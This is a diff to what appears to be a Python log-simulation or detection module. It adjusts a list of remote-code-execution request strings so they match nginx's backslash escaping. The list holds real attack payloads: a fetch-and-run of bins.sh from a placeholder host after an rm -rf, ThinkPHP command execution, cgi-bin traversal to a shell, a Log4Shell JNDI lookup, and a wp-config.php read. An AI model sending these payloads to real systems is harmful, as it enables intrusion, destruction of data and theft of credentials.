@@ -74,7 +74,8 @@ _TRAVERSAL: Final = (
 )
 _RCE: Final = (
     "/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/bins.sh;sh+bins.sh",
-    "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
+    # nginx logs a backslash as \x5C (its default log escaping)
+    "/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
     "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
     "/?x=%24%7Bjndi%3Aldap%3A%2F%2F{ip}%3A1389%2FExploit%7D",
     "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
